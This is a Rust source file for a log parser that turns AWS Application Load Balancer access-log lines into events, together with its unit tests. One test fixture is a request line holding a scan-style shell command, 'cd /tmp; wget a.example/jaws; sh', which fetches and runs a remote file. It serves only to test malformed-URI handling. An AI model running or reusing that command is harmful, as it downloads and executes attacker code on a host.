//! AWS Application Load Balancer access logs (`aws_alb`).
//!
//! Each line is one request, as space-separated fields in this order, quoted
//! where shown:
//!
//! ```text
//! type time elb client:port target:port request_processing_time
//! target_processing_time response_processing_time elb_status_code
//! target_status_code received_bytes sent_bytes "request" "user_agent"
//! ssl_cipher ssl_protocol target_group_arn "trace_id" "domain_name"
//! "chosen_cert_arn" matched_rule_priority request_creation_time
//! "actions_executed" "redirect_url" "error_reason" "target:port_list"
//! "target_status_code_list" "classification" "classification_reason"
//! conn_trace_id "transformed_host" "transformed_uri" "request_transform_status"
//! ```
//!
//! Older load balancers end the line earlier, but at least after `user_agent`.
//! Fields after the last known one are kept as attributes `extra_1`, `extra_2`, ...
//!
//! `time` is when the load balancer generated the response, so the event time
//! is the END of the request. `request_creation_time` (the start) is kept as an
//! attribute. `status` is `elb_status_code`, `upstream_status` is
//! `target_status_code` and `upstream` is `target:port`. `duration_ms` is the sum
//! of the three processing times, and unknown when any of them is `-1`,
//! which the load balancer writes when it responded without a target.
//! Scheme, host, path and query come from the absolute URI of the request line.
//! Every other field goes to an attribute named after it, and `-` values are left out.
//!
//! NLB TLS lines (`tls 2.0 ...`) and ALB connection-log lines can arrive in the
//! same bucket. They are valid records but not HTTP requests, so they are skipped.

use crate::event::Event;
use crate::format::Format;
use crate::parse::{LineOutcome, ParseContext};
use crate::text::{
    Delimiter, Field, Fields, dash_as_none, normalise_ip, parse_iso8601, parse_seconds_as_micros,
    quote_excerpt, set_client_endpoint, set_request, unescape_text,
};

/// Names of the fields up to `user_agent`, which every layout has.
const REQUIRED_FIELDS: [&str; 14] = [
    "type",
    "time",
    "elb",
    "client:port",
    "target:port",
    "request_processing_time",
    "target_processing_time",
    "response_processing_time",
    "elb_status_code",
    "target_status_code",
    "received_bytes",
    "sent_bytes",
    "request",
    "user_agent",
];

/// Attribute names of the fields after `user_agent`, in log order.
const OPTIONAL_FIELDS: [&str; 19] = [
    "ssl_cipher",
    "ssl_protocol",
    "target_group_arn",
    "trace_id",
    "domain_name",
    "chosen_cert_arn",
    "matched_rule_priority",
    "request_creation_time",
    "actions_executed",
    "redirect_url",
    "error_reason",
    "target_port_list",
    "target_status_code_list",
    "classification",
    "classification_reason",
    "conn_trace_id",
    "transformed_host",
    "transformed_uri",
    "request_transform_status",
];

/// Attributes reserved per event: the type, the load balancer, the three
/// processing times, the port and the fields after `user_agent`.
const ATTRIBUTE_CAPACITY: usize = 6 + OPTIONAL_FIELDS.len();

const TIME: usize = 1;
const ELB_STATUS_CODE: usize = 8;
const TARGET_STATUS_CODE: usize = 9;
const RECEIVED_BYTES: usize = 10;
const SENT_BYTES: usize = 11;
const REQUEST: usize = 12;
const USER_AGENT: usize = 13;
const PROCESSING_TIMES: [usize; 3] = [5, 6, 7];

/// Parses one line of an ALB access log.
pub fn parse_line(line: &str, _ctx: &ParseContext<'_>) -> LineOutcome {
    parse_record(line)
}

/// Parses one line without the per-input settings, as format detection needs.
pub(crate) fn parse_record(line: &str) -> LineOutcome {
    let line = line.strip_prefix('\u{feff}').unwrap_or(line);
    if is_nlb_tls_record(line) {
        return LineOutcome::Skipped("nlb_tls_record");
    }
    if is_connection_log_record(line) {
        return LineOutcome::Skipped("alb_connection_log_record");
    }
    let mut fields = Vec::with_capacity(REQUIRED_FIELDS.len() + OPTIONAL_FIELDS.len());
    fields.extend(Fields::new(line));
    match build_event(&fields) {
        Ok(event) => LineOutcome::Event(Box::new(event)),
        Err(reason) => LineOutcome::Rejected(reason),
    }
}

/// Returns whether the line is an NLB TLS access record: `tls`, a log version, then an ISO 8601 time.
fn is_nlb_tls_record(line: &str) -> bool {
    let mut fields = Fields::new(line);
    fields.next().is_some_and(|field| field.text == "tls")
        && fields.next().is_some()
        && fields
            .next()
            .is_some_and(|field| parse_iso8601(field.text).is_some())
}

/// Returns whether the line is an ALB connection-log record: an ISO 8601 time, the client IP and port.
fn is_connection_log_record(line: &str) -> bool {
    let mut fields = Fields::new(line);
    fields
        .next()
        .is_some_and(|field| parse_iso8601(field.text).is_some())
        && fields
            .next()
            .is_some_and(|field| normalise_ip(field.text).is_some())
        && fields
            .next()
            .is_some_and(|field| field.text.parse::<u16>().is_ok())
}

fn build_event(fields: &[Field<'_>]) -> Result<Event, String> {
    if fields.len() < REQUIRED_FIELDS.len() {
        return Err(format!(
            "expected at least {} space-separated fields for aws_alb, found {}",
            REQUIRED_FIELDS.len(),
            fields.len()
        ));
    }
    let time =
        parse_iso8601(fields[TIME].text).ok_or_else(|| invalid_field("timestamp", fields, TIME))?;
    if fields[REQUEST].delimiter != Delimiter::Quoted {
        return Err(format!(
            "expected a quoted request line in field {} (request), found {}",
            REQUEST + 1,
            quote_excerpt(fields[REQUEST].text)
        ));
    }

    let mut event = Event::new(Format::AwsAlb.name(), time);
    // Room for the attributes of a current line, which keeps most of the
    // fields after `user_agent`, so the list is not grown step by step.
    event.attributes.reserve(ATTRIBUTE_CAPACITY);
    push_attribute(&mut event, "type", fields[0].text);
    push_attribute(&mut event, "elb", fields[2].text);
    set_client_endpoint(&mut event, fields[3].text);
    event.upstream = dash_as_none(fields[4].text).map(str::to_string);
    set_processing_times(&mut event, fields)?;
    event.status = parse_status(fields, ELB_STATUS_CODE)?;
    event.upstream_status = parse_status(fields, TARGET_STATUS_CODE)?;
    event.request_bytes = parse_byte_count(fields, RECEIVED_BYTES)?;
    event.response_bytes = parse_byte_count(fields, SENT_BYTES)?;
    set_request(&mut event, fields[REQUEST].text);
    event.user_agent = dash_as_none(&unescape_text(fields[USER_AGENT].text)).map(str::to_string);
    set_optional_fields(&mut event, &fields[REQUIRED_FIELDS.len()..]);
    Ok(event)
}

/// Sets `duration_ms` and keeps each known processing time as an attribute.
fn set_processing_times(event: &mut Event, fields: &[Field<'_>]) -> Result<(), String> {
    let mut total_micros = Some(0);
    for index in PROCESSING_TIMES {
        let text = fields[index].text;
        if text == "-1" || text == "-" {
            total_micros = None;
            continue;
        }
        let micros =
            parse_seconds_as_micros(text).ok_or_else(|| invalid_field("number", fields, index))?;
        total_micros = total_micros.map(|total| total + micros);
        push_attribute(event, REQUIRED_FIELDS[index], text);
    }
    event.duration_ms = total_micros.map(|micros| micros as f64 / 1000.0);
    Ok(())
}

/// Parses a status code. `-`, and the `-1` of a request that never reached a target, are unknown.
fn parse_status(fields: &[Field<'_>], index: usize) -> Result<Option<i32>, String> {
    match fields[index].text {
        "-" | "-1" => Ok(None),
        text => parse_digits(text)
            .and_then(|status| i32::try_from(status).ok())
            .map(Some)
            .ok_or_else(|| invalid_field("status", fields, index)),
    }
}

fn parse_byte_count(fields: &[Field<'_>], index: usize) -> Result<Option<i64>, String> {
    match fields[index].text {
        "-" => Ok(None),
        text => parse_digits(text)
            .map(Some)
            .ok_or_else(|| invalid_field("byte count", fields, index)),
    }
}

/// Parses a non-empty run of ASCII digits. Signs, spaces and values beyond `i64` give `None`.
pub(super) fn parse_digits(text: &str) -> Option<i64> {
    if text.is_empty() || !text.bytes().all(|byte| byte.is_ascii_digit()) {
        return None;
    }
    text.parse().ok()
}

/// Stores the fields after `user_agent`: `trace_id` in its column, the rest as attributes.
fn set_optional_fields(event: &mut Event, fields: &[Field<'_>]) {
    for (index, field) in fields.iter().enumerate() {
        let value = unescape_text(field.text);
        match OPTIONAL_FIELDS.get(index) {
            Some(&"trace_id") => event.trace_id = dash_as_none(&value).map(str::to_string),
            Some(name) => push_attribute(event, name, &value),
            None => {
                let name = format!("extra_{}", index + 1 - OPTIONAL_FIELDS.len());
                push_attribute(event, &name, &value);
            }
        }
    }
}

fn push_attribute(event: &mut Event, name: &str, value: &str) {
    if let Some(value) = dash_as_none(value) {
        event.attributes.push((name.to_string(), value.to_string()));
    }
}

/// Reject reason for a field whose value is not a valid `value_kind`, naming the field by number and name.
fn invalid_field(value_kind: &str, fields: &[Field<'_>], index: usize) -> String {
    format!(
        "invalid {value_kind} {} in field {} ({})",
        quote_excerpt(fields[index].text),
        index + 1,
        REQUIRED_FIELDS[index]
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::test_support::{expect_event, expect_rejection};

    const HTTPS_LINE: &str = concat!(
        r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 "#,
        r#"192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 201 0 57 "#,
        r#""GET https://www.example.com:443/api/items?page=2 HTTP/1.1" "curl/7.46.0" "#,
        r#"ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 "#,
        r#"arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "#,
        r#""Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "#,
        r#""arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" "#,
        r#"1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "201" "#,
        r#""Acceptable" "-" TID_1234 "-" "-" "-""#,
    );

    fn parse_event(line: &str) -> Event {
        expect_event(line, parse_record(line))
    }

    fn rejection(line: &str) -> String {
        expect_rejection(line, parse_record(line))
    }

    fn attribute<'a>(event: &'a Event, name: &str) -> Option<&'a str> {
        event.attribute(name)
    }

    /// Builds a line of the 2019 layout, which ends at `error_reason`.
    fn older_line(client: &str, timings: &str, statuses: &str, request: &str) -> String {
        format!(
            "http 2019-10-11T15:01:12.376735Z app/lb/c86a326e7dc14222 {client} 10.0.0.192:80 \
             {timings} {statuses} 125 308 \"{request}\" \"curl/7.58.0\" - - \
             arn:aws:elasticloadbalancing:eu-central-1:1:targetgroup/t/8f \
             \"Root=1-5da09932-2c342a443bfb96249aa50ed7\" \"-\" \"-\" 0 \
             2019-10-11T15:01:06.657000Z \"forward\" \"-\" \"-\""
        )
    }

    #[test]
    fn https_line_maps_columns() {
        let event = parse_event(HTTPS_LINE);
        assert_eq!(event.source, "aws_alb");
        assert_eq!(event.time, 1_530_570_180_186_641);
        assert_eq!(event.client_ip.as_deref(), Some("192.168.131.39"));
        assert_eq!(event.client_port, Some(2817));
        assert_eq!(event.upstream.as_deref(), Some("10.0.0.1:80"));
        assert_eq!(event.status, Some(200));
        assert_eq!(event.upstream_status, Some(201));
        assert_eq!(event.request_bytes, Some(0));
        assert_eq!(event.response_bytes, Some(57));
        assert_eq!(event.duration_ms, Some(171.0));
        assert_eq!(event.user_agent.as_deref(), Some("curl/7.46.0"));
        assert_eq!(
            event.trace_id.as_deref(),
            Some("Root=1-58337281-1d84f3d73c47ec4e58577259")
        );
        assert!(!event.malformed);
    }

    #[test]
    fn https_line_splits_absolute_uri() {
        let event = parse_event(HTTPS_LINE);
        assert_eq!(event.method.as_deref(), Some("GET"));
        assert_eq!(event.scheme.as_deref(), Some("https"));
        assert_eq!(event.host.as_deref(), Some("www.example.com"));
        assert_eq!(event.path.as_deref(), Some("/api/items"));
        assert_eq!(event.query.as_deref(), Some("page=2"));
        assert_eq!(event.http_version.as_deref(), Some("HTTP/1.1"));
        assert_eq!(attribute(&event, "port"), Some("443"));
    }

    #[test]
    fn https_line_keeps_other_fields() {
        let event = parse_event(HTTPS_LINE);
        let expected = [
            ("type", "https"),
            ("elb", "app/my-loadbalancer/50dc6c495c0c9188"),
            ("request_processing_time", "0.086"),
            ("target_processing_time", "0.048"),
            ("response_processing_time", "0.037"),
            ("port", "443"),
            ("ssl_cipher", "ECDHE-RSA-AES128-GCM-SHA256"),
            ("ssl_protocol", "TLSv1.2"),
            (
                "target_group_arn",
                "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067",
            ),
            ("domain_name", "www.example.com"),
            (
                "chosen_cert_arn",
                "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
            ),
            ("matched_rule_priority", "1"),
            ("request_creation_time", "2018-07-02T22:22:48.364000Z"),
            ("actions_executed", "authenticate,forward"),
            ("target_port_list", "10.0.0.1:80"),
            ("target_status_code_list", "201"),
            ("classification", "Acceptable"),
            ("conn_trace_id", "TID_1234"),
        ];
        let actual: Vec<(&str, &str)> = event
            .attributes
            .iter()
            .map(|(key, value)| (key.as_str(), value.as_str()))
            .collect();
        assert_eq!(actual, expected);
    }

    #[test]
    fn minus_one_timings_give_no_duration() {
        let event = parse_event(&older_line(
            "77.227.156.41:56398",
            "-1 -1 -1",
            "460 -",
            "GET http://lb:80/ HTTP/1.1",
        ));
        assert_eq!(event.duration_ms, None);
        assert_eq!(event.status, Some(460));
        assert_eq!(event.upstream_status, None);
        assert_eq!(attribute(&event, "request_processing_time"), None);
    }

    #[test]
    fn one_minus_one_timing_gives_no_duration() {
        let event = parse_event(&older_line(
            "1.2.3.4:5",
            "0.001 -1 -1",
            "502 -1",
            "GET http://lb:80/ HTTP/1.1",
        ));
        assert_eq!(event.duration_ms, None);
        assert_eq!(event.upstream_status, None);
        assert_eq!(attribute(&event, "request_processing_time"), Some("0.001"));
    }

    #[test]
    fn older_layout_is_accepted() {
        let event = parse_event(&older_line(
            "1.2.3.4:5",
            "0.001 0.000 0.000",
            "200 200",
            "GET http://lb:80/ HTTP/1.1",
        ));
        assert_eq!(event.duration_ms, Some(1.0));
        assert_eq!(attribute(&event, "actions_executed"), Some("forward"));
        assert_eq!(attribute(&event, "classification"), None);
    }

    #[test]
    fn minimal_layout_ends_at_user_agent() {
        let line = "http 2018-07-02T22:23:00Z app/lb/1 1.2.3.4:5 - 0.000 0.001 0.000 200 200 34 366 \
                    \"GET http://www.example.com:80/ HTTP/1.1\" \"curl/7.46.0\"";
        let event = parse_event(line);
        assert_eq!(event.status, Some(200));
        assert_eq!(event.upstream, None);
        assert_eq!(event.user_agent.as_deref(), Some("curl/7.46.0"));
    }

    #[test]
    fn ipv6_client_splits_last_colon() {
        let event = parse_event(&older_line(
            "2001:db8::1:443",
            "0 0 0",
            "200 200",
            "GET http://lb:80/ HTTP/1.1",
        ));
        assert_eq!(event.client_ip.as_deref(), Some("2001:db8::1"));
        assert_eq!(event.client_port, Some(443));

        let event = parse_event(&older_line(
            "[2001:db8::1]:443",
            "0 0 0",
            "200 200",
            "GET http://lb:80/ HTTP/1.1",
        ));
        assert_eq!(event.client_ip.as_deref(), Some("2001:db8::1"));
        assert_eq!(event.client_port, Some(443));
    }

    #[test]
    fn malformed_request_keeps_row() {
        for request in [
            "- - -",
            "- http://www.example.com:80- -",
            "- http://internal-alb.example.com:80-/ ",
            "",
        ] {
            let event = parse_event(&older_line("1.2.3.4:5", "-1 -1 -1", "400 -", request));
            assert!(event.malformed, "request {request:?}");
            assert_eq!(event.method, None, "request {request:?}");
            assert_eq!(event.path, None, "request {request:?}");
            assert_eq!(event.status, Some(400), "request {request:?}");
            assert_eq!(
                attribute(&event, "request"),
                Some(request),
                "request {request:?}"
            );
        }
    }

    #[test]
    fn space_in_uri_is_split_and_marked() {
        let request = "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh HTTP/1.1";
        let event = parse_event(&older_line("1.2.3.4:5", "-1 -1 -1", "301 -", request));
        assert!(event.malformed);
        assert_eq!(event.method.as_deref(), Some("GET"));
        assert_eq!(event.host.as_deref(), Some("127.0.0.1"));
        assert_eq!(event.path.as_deref(), Some("/shell"));
        assert_eq!(
            event.query.as_deref(),
            Some("cd+/tmp;wget+ a.example/jaws;sh")
        );
        assert_eq!(event.http_version.as_deref(), Some("HTTP/1.1"));
    }

    #[test]
    fn missing_space_after_quote_is_tolerated() {
        let line = HTTPS_LINE.replace(
            r#""arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 "#,
            r#""-"1 "#,
        );
        let event = parse_event(&line);
        assert_eq!(attribute(&event, "chosen_cert_arn"), None);
        assert_eq!(attribute(&event, "matched_rule_priority"), Some("1"));
        assert_eq!(attribute(&event, "conn_trace_id"), Some("TID_1234"));
    }

    #[test]
    fn unknown_trailing_fields_become_extras() {
        let line = format!("{HTTPS_LINE} \"new value\" - 42");
        let event = parse_event(&line);
        assert_eq!(attribute(&event, "extra_1"), Some("new value"));
        assert_eq!(attribute(&event, "extra_2"), None);
        assert_eq!(attribute(&event, "extra_3"), Some("42"));
    }

    #[test]
    fn transform_fields_are_named() {
        let line = HTTPS_LINE.replace(
            r#"TID_1234 "-" "-" "-""#,
            r#"TID_1234 "api.internal" "/v2/items" "TransformSuccess""#,
        );
        let event = parse_event(&line);
        assert_eq!(attribute(&event, "transformed_host"), Some("api.internal"));
        assert_eq!(attribute(&event, "transformed_uri"), Some("/v2/items"));
        assert_eq!(
            attribute(&event, "request_transform_status"),
            Some("TransformSuccess")
        );
    }

    #[test]
    fn nlb_tls_record_is_skipped() {
        let line = "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 \
                    g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - \
                    arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - \
                    ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - \
                    2018-12-20T02:59:30";
        assert!(matches!(
            parse_record(line),
            LineOutcome::Skipped("nlb_tls_record")
        ));
    }

    #[test]
    fn connection_log_record_is_skipped() {
        let line = "2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 \
                    ECDHE-RSA-AES128-GCM-SHA256 4.036 \"CN=amazondomains.com,O=endEntity\" \
                    NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success";
        assert!(matches!(
            parse_record(line),
            LineOutcome::Skipped("alb_connection_log_record")
        ));
    }

    #[test]
    fn short_line_is_rejected() {
        assert_eq!(
            rejection("http 2018-07-02T22:23:00Z app/lb/1 1.2.3.4:5 -"),
            "expected at least 14 space-separated fields for aws_alb, found 5"
        );
    }

    #[test]
    fn invalid_time_is_rejected() {
        let line = HTTPS_LINE.replace("2018-07-02T22:23:00.186641Z", "2018-13-45T22:23:00.186641Z");
        assert_eq!(
            rejection(&line),
            r#"invalid timestamp "2018-13-45T22:23:00.186641Z" in field 2 (time)"#
        );
    }

    #[test]
    fn invalid_numbers_are_rejected() {
        let line = older_line("1.2.3.4:5", "0.1 abc 0", "200 200", "GET / HTTP/1.1");
        assert_eq!(
            rejection(&line),
            r#"invalid number "abc" in field 7 (target_processing_time)"#
        );
        let line = older_line("1.2.3.4:5", "0 0 0", "2x0 200", "GET / HTTP/1.1");
        assert_eq!(
            rejection(&line),
            r#"invalid status "2x0" in field 9 (elb_status_code)"#
        );
    }

    #[test]
    fn clf_line_is_rejected() {
        let line = r#"10.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "GET /a HTTP/1.0" 200 2326 "-" "curl/8" x y z w v"#;
        assert_eq!(
            rejection(line),
            r#"invalid timestamp "-" in field 2 (time)"#
        );
    }

    #[test]
    fn unquoted_request_is_rejected() {
        let line = "http 2018-07-02T22:23:00Z app/lb/1 1.2.3.4:5 - 0 0 0 200 200 34 366 GET /";
        assert_eq!(
            rejection(line),
            r#"expected a quoted request line in field 13 (request), found "GET""#
        );
    }

    #[test]
    fn odd_input_does_not_panic() {
        let samples = [
            "",
            "\"",
            "tls",
            "tls 2.0",
            "[",
            "http \"unterminated",
            "ü ü ü ü ü ü ü ü ü ü ü ü ü ü ü",
            "http 2018-07-02T22:23:00Z a b c d e f g h i j \"k\\\" \"",
        ];
        for sample in samples {
            let _ = parse_record(sample);
        }
    }
}
